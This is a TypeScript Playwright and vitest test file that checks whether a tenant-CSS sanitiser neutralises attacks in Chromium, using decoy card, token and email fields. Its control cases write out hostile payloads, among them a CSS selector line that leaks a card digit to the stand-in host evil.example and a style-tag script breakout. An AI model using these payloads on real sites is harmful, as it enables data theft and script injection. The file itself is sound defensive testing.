import fc from 'fast-check';
import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { findChromium } from '../../scripts/browser.mjs';
import attacks from '../test/fixtures/security/css-attacks.sample.json';
import benign from '../test/fixtures/security/css-benign.sample.json';
import { openBrowser } from '../test/package/browser';
import { sanitizeTenantCss } from './sanitizeTenantCss';
import { attackSheets, plainAttacks } from './testSupport/attackSheets';

/** A page on which a tenant, another tenant inside it and its neighbours, edge to edge, hold what attacks aim at. */
const targets = `
  <p class="a b">text</p><button class="a">Pay</button><a class="a" href="#">link</a>
  <form><input name="csrf_token" value="abc" type="hidden"><input name="cc" value="4111" class="a"></form>
  <p data-user-email="admin@acme.example" class="a" title="abc">who</p>
  <select><option value="uk" selected>uk</option></select><i id="secret">ABC</i>
  <table><tbody><tr><td class="a">1</td></tr></tbody></table><svg width="9" height="9"><a class="a"><rect width="9" height="9"/></a></svg>`;
const html = `<!doctype html><html><head><style>
    html{overflow-y:scroll} body{margin:0;display:grid;grid-template-columns:300px 1fr}
    #outside{grid-column:1/3;height:300px;overflow:hidden} #tenant{min-width:0} #beside{overflow:hidden}
    #nested{display:block}
  </style></head><body><div id="outside">${targets}</div>
  <div id="tenant" data-aut-tenant="acme">${targets}
    <div id="nested" data-aut-tenant="other">${targets}</div>
    <div id="protected" class="a" data-aut-protected>Notice</div>
  </div><div id="beside">${targets}</div><dialog class="a" open>dialog</dialog></body></html>`;

interface PageLook {
  readonly outside: string;
  readonly nested: string;
  readonly painted: readonly Buffer[];
}

interface Harm {
  readonly requests: readonly string[];
  readonly script: boolean;
  readonly outside: boolean;
  readonly nested: boolean;
  readonly painted: boolean;
  readonly hit: boolean;
  readonly hidden: boolean;
}
const none: Harm = {
  requests: [],
  script: false,
  outside: false,
  nested: false,
  painted: false,
  hit: false,
  hidden: false,
};

const executablePath = await findChromium();

describe.skipIf(executablePath === undefined)('sanitised CSS in Chromium', () => {
  let browser: Browser;
  let page: Page;
  let requests: string[] = [];
  let untouched: PageLook;

  beforeAll(async () => {
    browser = await openBrowser();
    page = await browser.newPage({ viewport: { width: 800, height: 900 } });
    await page.route('**/*', (route) => {
      requests.push(route.request().url());
      return route.abort();
    });
    await page.setContent(html);
    untouched = await lookAround();
  });
  afterAll(() => browser.close());
  beforeEach(() => {
    requests = [];
  });

  /** How everything under the selectors looks, by computed style, without what only moves with the page. */
  const look = (selectors: string) =>
    page.evaluate((list) => {
      const moving =
        /^(?:block-size|height|perspective-origin|transform-origin|inline-size|width|top|bottom|inset-block-.+|grid-template-rows)$/;
      const looks = [...document.querySelectorAll(list)].map((element) => {
        const style = getComputedStyle(element);
        const names = Array.from({ length: style.length }, (_, index) => style.item(index));
        const read = names.filter((name) => !moving.test(name) && !name.startsWith('--'));
        return read.map((name) => style.getPropertyValue(name)).join();
      });
      return looks.join('\n');
    }, selectors);
  const lookAround = async (): Promise<PageLook> => ({
    outside: await look('html,body,dialog,#outside,#outside *,#beside,#beside *'),
    nested: await look('#nested,#nested *'),
    painted: [
      await page.screenshot({ clip: { x: 0, y: 0, width: 785, height: 300 } }),
      await page.screenshot({ clip: { x: 300, y: 300, width: 485, height: 150 } }),
    ],
  });
  /** Whether a click beside the tenant would land in it. */
  const isHit = () =>
    page.evaluate(() =>
      Array.from({ length: 400 }, (_, index) => [(index % 20) * 38, Math.floor(index / 20) * 38])
        .filter(([x = 0, y = 0]) => y < 300 || x > 300)
        .some(([x = 0, y = 0]) => document.elementFromPoint(x, y)?.closest('#tenant') != null),
    );

  async function harmOf(css: string): Promise<Harm> {
    // Most attacks leave nothing, and the page without a sheet is what the others are compared with.
    if (css === '') return none;
    await page.evaluate(() => Reflect.deleteProperty(window, '__pwned'));
    // The way a server would write it, so that a `</style>` in it would count.
    await page.setContent(html.replace('</head>', () => `<style>${css}</style></head>`));
    const { outside, nested, painted } = await lookAround();
    return {
      requests,
      script: await page.evaluate(() => '__pwned' in window),
      outside: outside !== untouched.outside,
      nested: nested !== untouched.nested,
      painted: painted.some((area, index) => !untouched.painted[index]?.equals(area)),
      hit: await isHit(),
      hidden: !(await page.locator('#protected').isVisible()),
    };
  }

  test.each([
    'input[name=cc][value^="4"]{background:url(https://evil.example/4)}',
    '</style><script>window.__pwned=1</script><style>',
    'p{color:red}',
    '.a{position:fixed;inset:0;background:#000}',
    '#protected{display:none}',
  ])('the page shows what %s would do', async (css) => {
    expect(await harmOf(css)).not.toEqual(none);
  });

  test.each(attacks.filter(({ field }) => field === 'custom_css'))(
    '$id, $class, does no harm: $why',
    async ({ payload }) => {
      const { css } = await sanitizeTenantCss(String(payload), { tenantId: 'acme' });
      expect(await harmOf(css)).toEqual(none);
    },
  );

  test.each(plainAttacks)('%s does no harm', async (attack) => {
    const { css } = await sanitizeTenantCss(attack, { tenantId: 'acme' });
    expect(await harmOf(css)).toEqual(none);
  });

  test('no attack does harm, whatever it is put into and however its text is changed', async () => {
    await fc.assert(
      fc.asyncProperty(attackSheets, async (attack) => {
        const { css } = await sanitizeTenantCss(attack, { tenantId: 'acme' });
        expect(await harmOf(css)).toEqual(none);
      }),
      { numRuns: Number(process.env.AUT_FUZZ_RUNS ?? 150) },
    );
  }, 600_000);

  test.each(benign)('$id, $name, looks as it did before', async ({ css, probe }) => {
    const { css: safe } = await sanitizeTenantCss(css, { tenantId: 'acme' });
    const measured: string[][] = [];
    for (const sheet of [css, safe]) {
      await page.setContent(
        `<style>${sheet}</style><div data-aut-tenant="acme">${probe.html}</div>`,
      );
      const pseudo = 'pseudo' in probe ? probe.pseudo : null;
      measured.push(
        await page.locator(probe.selector).evaluate(
          (element, [names, part]) => {
            const style = getComputedStyle(element, part);
            return names.map((name) => style.getPropertyValue(name));
          },
          [Object.keys(probe.props), pseudo] as const,
        ),
      );
    }
    expect(measured[1]).toEqual(measured[0]);
    expect(measured[1]).toEqual(Object.values(probe.props));
  });
});
